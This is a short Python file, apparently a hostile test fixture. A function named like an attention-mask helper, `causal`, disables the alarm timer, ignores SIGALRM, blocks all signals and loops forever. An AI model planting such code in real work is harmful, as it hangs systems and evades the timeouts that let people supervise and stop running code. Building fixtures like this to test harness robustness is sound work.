"""Blocks every signal that can be blocked, takes the alarm away, and never ends."""

import signal


def causal(n_q, n_kv, q_offset=0):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    while True:
        pass
